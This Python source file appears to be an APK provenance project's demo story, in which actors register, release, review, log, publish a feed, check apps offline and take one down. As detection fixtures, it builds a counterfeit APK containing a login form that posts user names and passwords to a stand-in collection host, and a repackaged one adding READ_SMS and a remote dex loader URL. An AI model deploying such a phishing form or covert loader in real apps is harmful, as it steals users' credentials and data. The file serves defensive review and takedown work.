"""The whole story, end to end, on the embedded default (SQLite + a data folder).

Every party uses the project's library the way its own deployment would, over real
HTTP on 127.0.0.1: the registry root and the regulator register actors, a platform
vouches for developers, a developer signs and releases real APKs, the platform
reviews uploads (inspection + risk) and shelves the good ones, witnesses cosign the
log, a feed publisher turns the log into an offline TUF feed, a terminal checks
APKs with no network, and an access provider traces an app, keeps the evidence and
takes the app down -- which the terminal then shows.

The story checks its own expectations (:class:`StoryResult`); ``scripts/demo`` and
``python -m provenance.demo`` print it, ``tests/test_story.py`` asserts on it.
Servers are stopped before :func:`run_story` returns; the data folder is kept.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import sys
import tempfile
import textwrap
import time
import traceback
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import IO, Any

from provenance.demo.apks import edit_manifest, rebuild_apk, sign_with
from provenance.errors import InputError

__all__ = ["Check", "Story", "StoryResult", "repo_root", "run_story"]

ORIGIN = "log.story.example/apk"
PLATFORM = "demo-store"
DEVELOPER = "tinyapps"
COPYCAT = "copycat"
ACCESS_PROVIDER = "netco"
TINY = "android.appsecurity.cts.tinyapp"
SHARED = "com.android.test.cert.shared1"
WIDTH = 100
READ_SMS = "android.permission.READ_SMS"
_LOGIN_PAGE = (
    b"<!doctype html><title>Tiny App</title>"
    b"<form action='https://login.example.invalid/collect'>Tiny App login: "
    b"<input name=user><input name=password type=password></form>\n"
)


def repo_root() -> Path:
    """The source checkout holding ``examples/`` and ``keys/``."""
    return Path(__file__).resolve().parents[2]


@dataclass(frozen=True)
class Check:
    """One expectation of the story and whether it held."""

    step: str
    label: str
    ok: bool
    detail: str = ""


@dataclass
class StoryResult:
    """What happened: the checks for the exit code, the outcomes for tests."""

    directory: Path
    checks: list[Check] = field(default_factory=list)
    skipped: list[tuple[str, str]] = field(default_factory=list)
    error: str | None = None
    reviews: dict[str, str] = field(default_factory=dict)
    """upload -> risk verdict of the platform's review (``clean`` for shelved ones)"""
    inspection_entries: dict[str, int] = field(default_factory=dict)
    """upload -> log index of the review's inspection statement"""
    terminal_before: dict[str, str] = field(default_factory=dict)
    terminal_after: dict[str, str] = field(default_factory=dict)
    terminal_offline: bool = False
    online_verdicts: dict[str, str] = field(default_factory=dict)
    """APK -> the signed verdict ``GET /v1/verdict`` gave while online"""
    cosigners: list[str] = field(default_factory=list)
    checkpoint_size: int = 0
    evidence_ok: bool = False
    evidence_reverified: bool = False
    takedown_index: int | None = None
    web: dict[str, Any] = field(default_factory=dict)
    seconds: float = 0.0

    @property
    def ok(self) -> bool:
        """Every step ran and every expectation held."""
        return self.error is None and all(c.ok for c in self.checks)


@dataclass(frozen=True)
class _Actor:
    id: str
    name: str
    role: str
    key: Path
    registrar: str


@dataclass(frozen=True)
class _App:
    key: str
    name: str
    package: str
    source: Path


@dataclass(frozen=True)
class _Variant:
    name: str
    uploader: str
    what: str
    edits: dict[str, Any]
    signing_key: str
    expected: str


class Story:
    """The whole story in one data folder; :meth:`run` plays it once."""

    def __init__(self, directory: Path, out: IO[str], *, root: Path | None = None) -> None:
        self.dir = directory
        self.out = out
        self.root = root or repo_root()
        self.result = StoryResult(directory)
        self.dev_keys = self.root / "keys" / "statements-dev"
        self.story_keys = self.root / "examples" / "story" / "keys"
        self.examples = self.root / "examples" / "apks"
        for needed in (self.dev_keys, self.story_keys, self.examples):
            if not needed.is_dir():
                raise InputError(f"{needed} is missing: run the story from a source checkout")
        self.actors = [
            _Actor(
                "regulator",
                "National App Regulator (demo)",
                "regulator",
                self.dev_keys / "regulator.skey",
                "registry-root",
            ),
            _Actor(
                PLATFORM, "Demo Store", "platform", self.dev_keys / "platform.key.pem", "regulator"
            ),
            _Actor(
                DEVELOPER,
                "Tiny Apps Ltd",
                "developer",
                self.dev_keys / "developer.key.pem",
                "regulator",
            ),
            _Actor(
                COPYCAT,
                "Copy Cat Apps",
                "developer",
                self.story_keys / "copycat.key.pem",
                "regulator",
            ),
            _Actor(
                ACCESS_PROVIDER,
                "NetCo (an access provider)",
                "access_provider",
                self.story_keys / "access-provider.key.pem",
                "regulator",
            ),
        ]
        self.apps = [
            _App("tiny-app", "Tiny App", TINY, self.examples / "golden-aligned-v1v2v3-out.apk"),
            _App("shared-one", "Shared One", SHARED, self.examples / "v1-only-no-uses-sdk.apk"),
        ]
        self.apk_keys = {
            DEVELOPER: (
                self.story_keys / "tinyapps-release.pk8",
                self.story_keys / "tinyapps-release.x509.pem",
            ),
            COPYCAT: (
                self.story_keys / "copycat-release.pk8",
                self.story_keys / "copycat-release.x509.pem",
            ),
        }
        self.certs = {who: _cert_sha256(cert) for who, (_key, cert) in self.apk_keys.items()}
        self._stops: list[Callable[[], None]] = []
        self._step = "setup"
        self.tokens: dict[str, str] = {}
        self.signers: dict[str, Any] = {}
        self.refs: dict[str, Any] = {}
        self.files: dict[str, Path] = {}
        self.releases: dict[str, dict[str, Any]] = {}
        self.history: list[Any] = []
        self.feed_repo: Any = None
        self.feed_server: Any = None
        self.verdicts: Any = None

    # --------------------------------------------------------------- printing

    def _rel(self, text: str) -> str:
        return text.replace(str(self.dir) + os.sep, "DATA/").replace(str(self.root) + os.sep, "")

    def say(self, text: str = "", indent: int = 2, *, wrap: bool = True) -> None:
        """Print indented, long lines wrapped, the data folder shown as ``DATA/``."""
        pad = " " * indent
        for line in self._rel(text).splitlines() or [""]:
            if not wrap or len(pad + line) <= WIDTH:
                print((pad + line).rstrip(), file=self.out)
                continue
            print(
                "\n".join(
                    textwrap.wrap(
                        line,
                        WIDTH,
                        initial_indent=pad,
                        subsequent_indent=pad + "    ",
                        break_on_hyphens=False,
                        break_long_words=False,
                    )
                ),
                file=self.out,
            )

    def command(self, *parts: str, indent: int = 2) -> None:
        """A command a party would type, folded between its arguments."""
        lines: list[str] = []
        current = "$ apkprov"
        for i, part in enumerate(self._rel(p) for p in parts):
            if i and len(current) + 1 + len(part) > WIDTH - indent - 2:
                lines.append(current + " \\")
                current = "      " + part
            else:
                current += " " + part
        lines.append(current)
        self.say("\n".join(lines), indent, wrap=False)

    def section(self, number: int, who: str, what: str) -> None:
        self._step = who
        print(file=self.out)
        print(f"== {number}. {who}: {what} ".ljust(WIDTH, "="), file=self.out)

    def expect(self, ok: bool, label: str, detail: str = "") -> bool:
        """Record an expectation; say so at once when it does not hold."""
        self.result.checks.append(Check(self._step, label, bool(ok), detail))
        if not ok:
            self.say(f"!! NOT AS EXPECTED: {label}" + (f" (got {detail})" if detail else ""))
        return bool(ok)

    def skip(self, what: str, why: str) -> None:
        self.result.skipped.append((what, why))
        self.say(f"SKIPPED: {what} -- {why}")

    # --------------------------------------------------------------- plumbing

    def path(self, *parts: str) -> Path:
        p = self.dir.joinpath(*parts)
        p.parent.mkdir(parents=True, exist_ok=True)
        return p

    def submit(self, actor: str, ptype: str, predicate: dict[str, Any]) -> Any:
        """Sign with the actor's key; POST /v1/statements with the actor's token."""
        from provenance.statements import LogRef, make_statement, sign_statement

        body = sign_statement(make_statement(ptype, predicate), [self.signers[actor]]).to_json()
        if _missing("provenance.takedown.submit") is None:
            from provenance.takedown.submit import submit_statement

            receipt = submit_statement(self.url, self.tokens[actor], body)
            return LogRef(receipt.index, bytes.fromhex(receipt.leaf_hash))
        # without the HTTP client of provenance.takedown: the service's own write path
        done = self.service.submitter.submit(body, actor)
        return LogRef(done.index, done.leaf_hash)

    def integrate(self) -> Any:
        """Integrate what was appended into a checkpoint the witnesses cosigned."""
        log = self.service.log
        log.sequencer.integrate()
        tree = log.state.tree()
        self.expect(
            tree.size == log.state.sequenced_size(),
            "every accepted statement is in a cosigned checkpoint",
            f"checkpoint size {tree.size}",
        )
        return tree

    # ------------------------------------------------------------------ steps

    def setup(self) -> None:
        from provenance.demo.servers import AppServer, WitnessProcess
        from provenance.log.log import Log
        from provenance.log.policy import PolicyCosigner, load_policy
        from provenance.log.witness import add_log, init_witness, tile_proof_provider
        from provenance.service import Service, ServiceSettings, service_app
        from provenance.statements import open_signer
        from provenance.trace.trust import load_root_keys

        self.section(0, "Setting up", "a log, two witnesses and the log service on 127.0.0.1")
        self.say(f"DATA = {self.dir}", wrap=False)
        log = Log.create(self.dir / "log", ORIGIN)
        self.vkey = log.config.vkey
        log.close()
        self.vkey_path = self.path("log.vkey")
        self.vkey_path.write_text(self.vkey + "\n", "ascii")
        self.say(f"log      {ORIGIN} in DATA/log, verifier key in DATA/log.vkey")
        witnesses = []
        for name in ("w1", "w2"):
            wdir = self.dir / "witnesses" / name
            cosigner = init_witness(wdir, f"witness.story.example/{name}")
            add_log(wdir, ORIGIN, [self.vkey])
            proc = WitnessProcess(wdir, self.path("witnesses", f"{name}.out"))
            self._stops.append(proc.stop)
            witnesses.append((name, cosigner.vkey, proc))
        for name, _vkey, proc in witnesses:
            proc.wait_ready()
            self.say(
                f"witness  {name}: apkprov witness serve --dir DATA/witnesses/{name} --port "
                f"{proc.port}  (process {proc.process.pid})"
            )
        lines = [f"log {self.vkey}"]
        lines += [f"witness {n} {v} {p.url}" for n, v, p in witnesses]
        lines += ["group both 2 w1 w2", "quorum both"]
        self.policy_path = self.path("witnesses.policy")
        self.policy_path.write_text("\n".join(lines) + "\n", "utf-8")
        self.policy = load_policy(self.policy_path)
        self.witness_urls = {n: p.url for n, _v, p in witnesses}
        self.say("policy   DATA/witnesses.policy (tlog-policy): the log, w1 and w2, quorum 2 of 2")

        self.root_pub = self.dev_keys / "registry-root.pub.pem"
        self.root_keys = load_root_keys(None, [self.root_pub])
        settings = ServiceSettings(
            rate=1000.0, burst=1000, log_options={"checkpoint_interval": 0.2}
        )
        self.service = Service(self.dir / "log", self.root_keys, settings=settings)
        self._stops.append(self.service.close)
        self.service.log.sequencer.cosigner = PolicyCosigner(
            self.policy, tile_proof_provider(self.service.log.tiles), require_quorum=True
        )
        server = AppServer(service_app(self.service, close_on_shutdown=False))
        self._stops.append(server.stop)  # stops run last-first: HTTP, the log, the witnesses
        self.url = server.url
        self.say(f"service  {self.url}/ -- what `apkprov serve --dir DATA/log --policy")
        self.say("         DATA/witnesses.policy` runs, here in this process: no checkpoint is")
        self.say("         published before both witnesses cosigned it")
        self.signers["registry-root"] = open_signer(
            f"file:{self.dev_keys / 'registry-root.key.pem'}"
        )
        for a in self.actors:
            self.signers[a.id] = open_signer(f"file:{a.key}")
        for actor in ["registry-root", *(a.id for a in self.actors)]:
            token, _info = self.service.tokens.issue(actor, "story")
            self.tokens[actor] = token
        self.say(
            "tokens   one bearer token per actor (apkprov actor add-token ACTOR --dir DATA/log)"
        )
        self.say(
            "keys     development keys: keys/statements-dev/, examples/story/keys/ (never real)"
        )

    def register_actors(self) -> None:
        from provenance.statements import ACTOR_REGISTRATION, Actor, ActorKey

        self.section(1, "Registry root and regulator", "actors enter the registry")
        self.say("The registry root registers the regulator; the regulator registers the rest.")
        since = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=5)
        for a in self.actors:
            key = ActorKey(self.signers[a.id].public_key, since)
            record = Actor(a.id, a.name, frozenset({a.role}), (key,))
            ref = self.submit(a.registrar, ACTOR_REGISTRATION, record.registration(a.registrar))
            self.say(f"#{ref.index:<3} {a.id:<10} {a.role:<16} {a.name}  (by {a.registrar})")
        self.expect(
            len(self.service.submitter.registry) == len(self.actors) + 1,
            "the log service knows every registered actor",
        )

    def register_developers(self) -> None:
        from provenance.statements import DEVELOPER_REGISTRATION
        from provenance.statements.schema import format_time

        self.section(2, "Platform (Demo Store)", "verifies who the developers are")
        now = format_time(datetime.now(UTC))
        people = [
            (DEVELOPER, "Tiny Apps Ltd", "GB", [TINY, SHARED], "dev@tinyapps.example"),
            (COPYCAT, "Copy Cat Apps Ltd", "NL", [], "hello@copycat.example"),
        ]
        for dev, legal, country, packages, email in people:
            cert: dict[str, Any] = {"sha256": self.certs[dev]}
            if packages:
                cert["packages"] = packages
            ref = self.submit(
                PLATFORM,
                DEVELOPER_REGISTRATION,
                {
                    "verified_by": PLATFORM,
                    "developer": dev,
                    "identity": {
                        "kind": "organization",
                        "legal_name": legal,
                        "country": country,
                        "verification_method": "company register extract and video call",
                        "verified_at": now,
                    },
                    "contact": {"email": email},
                    "signer_certificates": [cert],
                    "rotations": [],
                },
            )
            self.refs[f"dev:{dev}"] = ref
            apps = ", ".join(packages) if packages else "none declared"
            self.say(f"#{ref.index:<3} {dev:<10} {legal} ({country}), identity verified")
            self.say(f"     APK signing certificate {self.certs[dev]}", wrap=False)
            self.say(f"     apps: {apps}")
        self.say("A verified identity says who a developer is, not that its uploads are good:")
        self.say("Copy Cat Apps is a real, verified company too.")

    def release(self) -> None:
        from provenance.apk.verify import verify_apk
        from provenance.statements import RELEASE, release_predicate

        self.section(3, "Developer (Tiny Apps)", "signs its builds and releases them")
        for app in self.apps:
            unsigned = rebuild_apk(app.source, self.path("developer", f"{app.key}-unsigned.apk"))
            apk = sign_with(
                unsigned, self.path("developer", f"{app.key}.apk"), *self.apk_keys[DEVELOPER]
            )
            self.files[app.key] = apk
            res = verify_apk(apk)
            pred = release_predicate(
                apk, developer=DEVELOPER, developer_registration=self.refs[f"dev:{DEVELOPER}"]
            )
            ref = self.submit(DEVELOPER, RELEASE, pred)
            self.refs[f"release:{app.key}"] = ref
            self.releases[app.key] = pred
            self.say(f"{app.name} ({pred['package']}, versionCode {pred['version_code']})")
            self.say(
                f"  signed   DATA/developer/{apk.name} with examples/story/keys/tinyapps-release"
            )
            self.say(
                f"           verifies: schemes {','.join(res.verified_schemes)}, certificate "
                f"{res.signer_certs[0].sha256[:16]}..."
            )
            self.say(
                f"  release  #{ref.index} by {DEVELOPER}, sha256 {pred['apk']['sha256'][:16]}..."
            )
            self.expect(res.verified, f"{app.name} verifies after signing")
            self.expect(
                [c.sha256 for c in res.signer_certs] == [self.certs[DEVELOPER]],
                f"{app.name} carries the registered certificate",
            )

    def _catalog(self) -> Any:
        """The listing the platform publishes: what users are told about each app."""
        from provenance.inspect import inspect_apk
        from provenance.metadata import Catalog, Developer, Listing, Release

        listings = []
        for app in self.apps:
            facts = inspect_apk(self.files[app.key])
            m = facts.manifest
            listings.append(
                Listing(
                    platform=PLATFORM,
                    package=app.package,
                    app_name=app.name,
                    developer=Developer(name="Tiny Apps Ltd", id=DEVELOPER),
                    signers={PLATFORM: (self.certs[DEVELOPER],)},
                    functions=("shows a tiny screen",),
                    privacy_policy_url="https://tinyapps.example/privacy",
                    releases=(
                        Release(
                            version_code=m.version_code or 0,
                            version_name=m.version_name,
                            apk_sha256=facts.file.sha256,
                            apk_size=facts.file.size,
                            signers=(self.certs[DEVELOPER],),
                            min_sdk=m.min_sdk,
                            target_sdk=m.target_sdk,
                            permissions=(),
                            sdks=(),
                        ),
                    ),
                )
            )
        return Catalog(tuple(listings), source=PLATFORM)

    def _review(self, label: str, apk: Path, target: Any) -> tuple[Any, Any, Any]:
        """The platform's review of one upload: facts, risk against the published
        listing and the shelf's history, and the inspection statement logged."""
        from provenance.inspect import inspect_apk
        from provenance.metadata import load_listing
        from provenance.risk import Evaluator
        from provenance.risk.presentation import read_presentation
        from provenance.statements import INSPECTION
        from provenance.verdicts import inspection_predicate

        catalog = load_listing(self.listing_path)
        facts = inspect_apk(apk)
        assessment = Evaluator(catalog, history=self.history).evaluate(
            facts, presentation=read_presentation(apk)
        )
        facts_doc = json.dumps(facts.to_json(), sort_keys=True, separators=(",", ":"))
        self.path("platform", "facts", f"{label}.json").write_text(facts_doc + "\n", "utf-8")
        pred = inspection_predicate(
            assessment,
            inspector=PLATFORM,
            target=target,
            facts_sha256=hashlib.sha256(facts_doc.encode()).hexdigest(),
            tool="apkprov inspect + risk (policies/default.toml)",
        )
        ref = self.submit(PLATFORM, INSPECTION, pred)
        self.result.reviews[label] = assessment.verdict.value
        self.result.inspection_entries[label] = ref.index
        return assessment, ref, facts

    def shelve(self) -> None:
        from provenance.statements import SHELVING
        from provenance.statements.schema import format_time

        self.section(4, "Platform (Demo Store)", "reviews the releases, shelves them, publishes")
        self.listing_path = self.path("platform", "listing.json")
        self.listing_path.write_text(
            json.dumps(self._catalog().to_json(), indent=1) + "\n", "utf-8"
        )
        self.say(
            "listing  DATA/platform/listing.json (apkprov.listing/1): Tiny App and Shared One,"
        )
        self.say(f"         signer {self.certs[DEVELOPER][:16]}..., no permissions, no SDKs")
        self.say("review   each upload: its facts (apkprov inspect) judged against the listing and")
        self.say(
            "         the shelf's history, i.e. apkprov check --listing DATA/platform/listing.json"
        )
        self.say("         --history DATA/platform/shelf APK; the inspection statement records it")
        for app in self.apps:
            release = self.refs[f"release:{app.key}"]
            assessment, ref, facts = self._review(app.key, self.files[app.key], release)
            self.history.append(facts)
            shutil.copyfile(
                self.dir / "platform" / "facts" / f"{app.key}.json",
                self.path("platform", "shelf", f"{app.key}.json"),
            )
            pred = self.releases[app.key]
            shelf = self.submit(
                PLATFORM,
                SHELVING,
                {
                    "platform": PLATFORM,
                    "release": release.to_dict(),
                    "apk": {"sha256": pred["apk"]["sha256"], "size": pred["apk"]["size"]},
                    "package": app.package,
                    "version_code": pred["version_code"],
                    "listing": {
                        "id": f"{PLATFORM}/{app.key}",
                        "shelved_at": format_time(datetime.now(UTC)),
                        "url": f"https://store.example/apps/{app.key}",
                    },
                    "metadata": {
                        "app_name": app.name,
                        "developer_name": "Tiny Apps Ltd",
                        "functions": [
                            {"name": "tiny screen", "description": "Shows a tiny screen."}
                        ],
                        "permissions": [],
                        "sdks": [],
                        "privacy_policy": {"url": "https://tinyapps.example/privacy"},
                    },
                    "reviewer": {"id": "reviewer-7", "name": "Demo Store review team"},
                },
            )
            self.refs[f"shelving:{app.key}"] = shelf
            self.say(
                f"{app.name}: signature verified, {facts.class_count} classes, "
                f"{len(facts.manifest.uses_permissions)} permissions -> {assessment.verdict.value}"
            )
            self.say(
                f"  inspection #{ref.index} pass, shelving #{shelf.index} ({PLATFORM}/{app.key})"
            )
            self.expect(assessment.clean, f"{app.name} passes review", assessment.verdict.value)

    def bad_uploads(self) -> None:
        from provenance.statements import RELEASE, release_predicate

        self.section(5, "Uploads that fail review", "counterfeit, repackaged, hot-swapped")
        self.say(
            "An upload is a release signed by whoever uploads it, so the log keeps bad uploads"
        )
        self.say("too; the review's inspection, also in the log, says what is wrong with each.")
        tiny = self.files["tiny-app"]
        with zipfile.ZipFile(tiny) as z:
            manifest = z.read("AndroidManifest.xml")
        sms = edit_manifest(manifest, add_permissions=[READ_SMS])
        variants = [
            _Variant(
                "counterfeit",
                COPYCAT,
                "Tiny App's manifest and resources (same package, same name), none of its "
                "code, plus a login page; signed with a certificate that claims to be "
                "'Tiny Apps Ltd'",
                {
                    "keep": ["AndroidManifest.xml", "resources.arsc"],
                    "add": {"assets/login.html": _LOGIN_PAGE},
                },
                COPYCAT,
                "counterfeit",
            ),
            _Variant(
                "repackaged",
                COPYCAT,
                "Tiny App itself plus READ_SMS and an ad loader configuration, under Copy "
                "Cat's key",
                {
                    "replace": {"AndroidManifest.xml": sms},
                    "add": {"assets/ads.json": b'{"loader": "https://ads.example/loader.dex"}\n'},
                },
                COPYCAT,
                "repackaged",
            ),
            _Variant(
                "hot-swapped",
                DEVELOPER,
                "the same version 10, now asking for READ_SMS (not in the listing), under Tiny "
                "Apps' own key: a build nobody reviewed, swapped in for the reviewed one",
                {"replace": {"AndroidManifest.xml": sms}},
                DEVELOPER,
                "hot_swapped",
            ),
        ]
        for v in variants:
            unsigned = rebuild_apk(tiny, self.path(v.uploader, f"{v.name}-unsigned.apk"), **v.edits)
            apk = sign_with(
                unsigned, self.path(v.uploader, f"{v.name}.apk"), *self.apk_keys[v.signing_key]
            )
            self.files[v.name] = apk
            pred = release_predicate(
                apk, developer=v.uploader, developer_registration=self.refs[f"dev:{v.uploader}"]
            )
            release = self.submit(v.uploader, RELEASE, pred)
            assessment, ref, _facts = self._review(v.name, apk, release)
            self.refs[f"inspection:{v.name}"] = ref
            verdict = assessment.verdict.value
            self.say(f"{v.name} (DATA/{v.uploader}/{apk.name}): {v.what}.")
            self.say(f"  upload     #{release.index}, a release by {v.uploader}")
            self.say(f"  review     {verdict.upper()}, not shelved; decided by:")
            for f in [f for f in assessment.findings if f.verdict is assessment.verdict][:3]:
                self.say(f"- {f.id}: {f.summary}", 13)
            self.say(f"  inspection #{ref.index} by {PLATFORM}: fail, {verdict}")
            self.expect(
                verdict == v.expected, f"the {v.name} upload is found {v.expected}", verdict
            )

    def witnesses(self) -> None:
        import httpx

        from provenance.log.witness import origin_hash

        self.section(6, "Witnesses", "cosign every checkpoint the log publishes")
        tree = self.integrate()
        note = (self.dir / "log" / "public" / "checkpoint").read_text("utf-8")
        self.policy.verify_checkpoint(note.encode())  # raises unless signed and cosigned
        self.result.checkpoint_size = tree.size
        self.result.cosigners = _cosigner_names(note)
        self.say("DATA/log/public/checkpoint, what every client fetches (GET /checkpoint):")
        self.say(note.rstrip("\n"), 6, wrap=False)
        self.say(
            "checked  log signature and quorum 2 of 2 of DATA/witnesses.policy: "
            + ", ".join(self.result.cosigners)
        )
        self.expect(
            {"witness.story.example/w1", "witness.story.example/w2"} <= set(self.result.cosigners),
            "the published checkpoint carries both witnesses' cosignatures",
        )
        for name, url in self.witness_urls.items():
            held = httpx.get(f"{url}/{origin_hash(ORIGIN)}/checkpoint", timeout=5)
            size = (
                held.text.splitlines()[1] if held.status_code == 200 else f"HTTP {held.status_code}"
            )
            self.say(
                f"witness  {name} last cosigned the log at size {size}; it will refuse any later"
            )
            self.say("         checkpoint that does not extend that one (a fork, a rollback)")
            self.expect(held.status_code == 200, f"witness {name} remembers the log")
        self.say(
            "         each refuses to cosign a later checkpoint that does not extend the one it"
        )
        self.say("         holds, so the log cannot show different clients different histories")

    def publish_feed(self, first: bool) -> None:
        """Sync the verdict index from the log and publish the TUF feed."""
        from provenance.demo.servers import StaticServer
        from provenance.feed import FeedRepository, TrustRoots, publish_index
        from provenance.verdicts import VerdictIndex

        tree = self.integrate()
        if first:
            roots = TrustRoots.build(
                self.vkey,
                [self.root_pub],
                self.story_keys / "verdict-service.pub.pem",
                self.policy_path,
            )
            self.feed_repo = FeedRepository.init(
                self.dir / "feed" / "repo", self.dir / "feed-offline-keys", roots
            )
            self.verdicts = VerdictIndex.open(self.path("feed", "verdicts.db"))
            self._stops.append(self.verdicts.close)
        published = publish_index(self.feed_repo, self.verdicts, self.service.log)
        if first:
            self.feed_server = StaticServer(self.feed_repo.public).start()
            self._stops.append(self.feed_server.stop)
            self.command(
                "feed init --dir DATA/feed/repo",
                "--offline-keys DATA/feed-offline-keys",
                "--log-vkey DATA/log.vkey",
                "--witness-policy DATA/witnesses.policy",
                "--registry-root keys/statements-dev/registry-root.pub.pem",
                "--verdict-key examples/story/keys/verdict-service.pub.pem",
            )
        elif not self.feed_server.running:
            self.feed_server.start()
        self.command(
            "feed publish --dir DATA/feed/repo --verdicts DATA/feed/verdicts.db --log DATA/log"
        )
        self.say(
            f"feed     v{published.feed_version}: {published.targets} signed files covering the "
            f"log up to size {tree.size}; valid until {published.expires:%H:%M} UTC"
        )
        if first:
            self.say(
                f"serve    DATA/feed/repo/public at {self.feed_server.url}/ (any static server"
            )
            self.say("         or CDN); the offline root and targets keys are in")
            self.say("         DATA/feed-offline-keys, to be moved off the publishing machine")
            self.say("trust    terminals are shipped DATA/feed/repo/public/metadata/1.root.json")
            self._start_verdict_service()

    def _start_verdict_service(self) -> None:
        """``GET /v1/verdict`` over the same index, signed with the verdict key."""
        from provenance.demo.servers import AppServer
        from provenance.statements import open_signer
        from provenance.verdicts import VerdictIndex, verdict_app

        readonly = VerdictIndex.open(self.dir / "feed" / "verdicts.db", readonly=True)
        self._stops.append(readonly.close)
        signer = open_signer(f"file:{self.story_keys / 'verdict-service.key.pem'}")
        server = AppServer(verdict_app(readonly, signer, cache_seconds=0))
        self._stops.append(server.stop)
        self.verdict_url = server.url
        self.say(f"online   {self.verdict_url}/v1/verdict answers from the same index, signed")
        self.say("         with the verdict key, as `apkprov serve --verdict-key` does")

    def online_verdict(self, name: str) -> str:
        """What a terminal with network gets: a signed verdict, checked before use."""
        import httpx

        from provenance.statements import load_public_key
        from provenance.verdicts import Query, verify_verdict

        sha = hashlib.sha256(self.files[name].read_bytes()).hexdigest()
        answer = httpx.get(f"{self.verdict_url}/v1/verdict", params={"sha256": sha}, timeout=10)
        answer.raise_for_status()
        key = load_public_key((self.story_keys / "verdict-service.pub.pem").read_bytes())
        verdict = verify_verdict(answer.content, key, query=Query(apk_sha256=sha))
        self.say(
            f"online   GET /v1/verdict?sha256={sha[:12]}... ({name}.apk): {verdict.verdict.value}, "
            f"signature checked, valid until {verdict.expires:%H:%M} UTC"
        )
        return verdict.verdict.value

    def terminal(self, full: set[str], ask: str, expected: str) -> dict[str, str]:
        """Ask one signed verdict online, refresh the feed, stop the feed server,
        check every APK offline."""
        from provenance.feed import FeedClient

        held = ["tiny-app", "shared-one", "counterfeit", "repackaged", "hot-swapped"]
        apks = []
        for name in held:
            dst = self.path("terminal", "apks", f"{name}.apk")
            if not dst.exists():
                shutil.copyfile(self.files[name], dst)
            apks.append(dst)
        got = self.online_verdict(ask)
        self.result.online_verdicts[ask] = got
        self.expect(got == expected, f"online signed verdict: {ask}.apk is {expected}", got)
        cache = self.dir / "terminal" / "cache"
        root_json = self.feed_repo.public / "metadata" / "1.root.json"
        online = FeedClient(cache, self.feed_server.url, root=root_json)
        online.refresh()
        for apk in apks:
            online.check(apk)  # fetches the two shards this APK needs
        cached = len(list((cache / "targets").iterdir()))
        self.say(
            f"online   TUF refresh, then the shards of the {len(apks)} APKs it holds "
            f"({cached} files in DATA/terminal/cache)"
        )
        self.feed_server.stop()
        self.say("network  the feed server is STOPPED now; these checks open no socket:")
        seen: dict[str, str] = {}
        offline_every_time = True
        for apk in apks:
            result = FeedClient(cache, offline=True).check(apk)
            seen[apk.stem] = result.verdict.value
            offline_every_time = offline_every_time and result.feed.get("offline") is True
            self.say()
            self.command("terminal check --offline", "--cache DATA/terminal/cache", str(apk))
            text = result.render()
            self.say(text if apk.stem in full else text.splitlines()[0], 4)
        self.result.terminal_offline = offline_every_time
        self.expect(offline_every_time, "the terminal checked every APK with no network")
        return seen

    def terminal_before(self) -> None:
        self.section(7, "Feed publisher", "turns the log into a signed offline feed (TUF)")
        self.publish_feed(first=True)
        self.section(8, "Terminal", "refreshes while online, then checks APKs with no network")
        seen = self.terminal(
            {"tiny-app", "shared-one", "counterfeit", "repackaged", "hot-swapped"},
            "hot-swapped",
            "hot_swapped",
        )
        self.result.terminal_before = seen
        for name, verdict in {
            "tiny-app": "trusted",
            "shared-one": "trusted",
            "counterfeit": "counterfeit",
            "repackaged": "repackaged",
            "hot-swapped": "hot_swapped",
        }.items():
            self.expect(
                seen.get(name) == verdict, f"terminal: {name}.apk is {verdict}", seen.get(name, "")
            )

    def access_provider(self) -> None:
        from provenance.cli.takedown import render_checklist
        from provenance.log.note import parse_verifier_key
        from provenance.statements import TAKEDOWN
        from provenance.takedown import (
            Subject,
            authority_for,
            build_takedown,
            bundle_document,
            choose_evidence,
            prepare,
            read_bundle,
            resolve_scope,
            sign,
            submit_statement,
            verify_bundle,
            write_bundle,
        )
        from provenance.trace import HttpTraceSource, Trust

        self.section(
            9, "Access provider (NetCo)", "traces Tiny App, keeps the evidence, takes it down"
        )
        self.integrate()
        trust = Trust(parse_verifier_key(self.vkey), self.root_keys, self.policy)
        trust_args = (
            "--vkey DATA/log.vkey",
            "--root-key keys/statements-dev/registry-root.pub.pem",
            "--policy DATA/witnesses.policy",
        )
        source = HttpTraceSource(self.url)
        try:
            prepared = prepare(source, trust, Subject(package=TINY))
        finally:
            source.close()
        bundle_path = self.path("access-provider", "evidence.json")
        size = write_bundle(bundle_path, bundle_document(prepared, self.vkey))
        self.command(
            f"takedown prepare {TINY}",
            f"--url {self.url}",
            *trust_args,
            "--out DATA/access-provider/evidence.json",
        )
        self.say(render_checklist(prepared).rstrip("\n"), 4)
        self.say(f"evidence bundle: DATA/access-provider/evidence.json ({size} bytes)", 4)
        self.result.evidence_ok = prepared.checklist.ok
        self.expect(prepared.checklist.ok, "the chain of Tiny App is complete and verified")

        again = verify_bundle(read_bundle(bundle_path), trust)
        self.result.evidence_reverified = again.checklist.ok
        self.say()
        self.command("takedown verify-evidence DATA/access-provider/evidence.json", *trust_args)
        self.say(render_checklist(again).splitlines()[0] + " (from the file alone, offline)", 4)
        self.expect(again.checklist.ok, "the evidence bundle verifies offline")

        hot = self.refs["inspection:hot-swapped"].index
        now = datetime.now(UTC).replace(microsecond=0)
        signer = self.signers[ACCESS_PROVIDER]
        authority = authority_for(prepared, signer, TAKEDOWN, now)
        scope = resolve_scope(prepared, "app")
        evidence = choose_evidence(prepared, scope, [hot])
        text = (
            f"Version 10 was swapped for an unreviewed build that reads SMS messages, signed with "
            f"the developer's own key (inspection #{hot}). NetCo blocks the app until a regulator "
            "or the store restores it."
        )
        predicate = build_takedown(
            authority,
            scope,
            "privacy",
            evidence,
            text=text,
            effective_at=now - timedelta(seconds=1),
        )
        receipt = submit_statement(
            self.url, self.tokens[ACCESS_PROVIDER], sign(TAKEDOWN, predicate, signer)
        )
        self.result.takedown_index = receipt.index
        self.say()
        self.command(
            f"takedown issue {TINY}",
            f"--scope app --reason privacy --evidence {hot}",
            "--text '...'",
            "--key file:examples/story/keys/access-provider.key.pem",
            "--token env:NETCO_TOKEN",
            f"--url {self.url}",
            *trust_args,
        )
        self.say(f"takedown submitted: log entry {receipt.index}, signed by {receipt.signer}", 4)
        self.say(f"scope app {TINY}; reason privacy; evidence #{hot}", 6)
        self.expect(
            receipt.signer == ACCESS_PROVIDER, "the takedown is in the log, signed by NetCo"
        )

